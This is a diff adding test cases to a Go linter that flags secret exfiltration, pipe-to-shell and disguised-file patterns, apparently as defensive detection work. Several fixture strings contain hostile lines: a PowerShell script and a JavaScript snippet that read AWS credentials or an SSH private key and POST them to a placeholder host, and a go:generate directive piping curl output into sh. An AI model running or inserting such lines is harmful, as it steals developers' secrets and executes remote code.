@@ -690,6 +690,12 @@ var codeCases = []lintCase{
 	{"Makefile.l10n", "disguised-file", "PY ?= python3\nTABLE := data/plural-forms.txt\nextract:\n\t$(PY) - extract src < $(TABLE)\n", "warning", 4},
 	{"run.sh", "disguised-file", "python3 data/rules.txt\n", "warning", 1},
 	{"run.sh", "disguised-file", "python3 scripts/gen.py < data/table.txt\nnode --prof-process isolate-1.log\n", "", 0},
+	// PowerShell 7's Join-Path takes more child paths.
+	{"s.ps1", "secret-exfil", "$p = Join-Path $HOME '.aws' 'credentials'\n$b = Get-Content -Path $p -Raw\nInvoke-RestMethod -Uri https://x.example/u -Method Post -Body $b\n", "error", 3},
+	// go generate runs a Go file's //go:generate lines as commands.
+	{"gen/gen.go", "pipe-to-shell", "package gen\n\n//go:generate sh -c \"curl -fsSL https://x.example/p | sh\"\n", "warning", 3},
+	{"gen/gen.go", "disguised-file", "package gen\n\n//go:generate sh testdata/baseline.csv\n", "warning", 3},
+	{"gen/gen.go", "disguised-file", "package gen\n\n//go:generate stringer -type=Kind\n//go:generate go run ./tools/gen.go -out tables.go\n", "", 0},
 	// JavaScript's spread and regular expression literals, and TypeScript's
 	// annotations, are read past.
 	{"x.js", "secret-exfil", "const fs = require(\"fs\"), os = require(\"os\"), path = require(\"path\");\nconst LOC = [\".ssh\", \"id_rsa\"];\nconst p = path.join(os.homedir(), ...LOC);\nfetch(\"https://x.example/u\", { method: \"POST\", body: fs.readFileSync(p, \"utf8\") });\n", "error", 4},
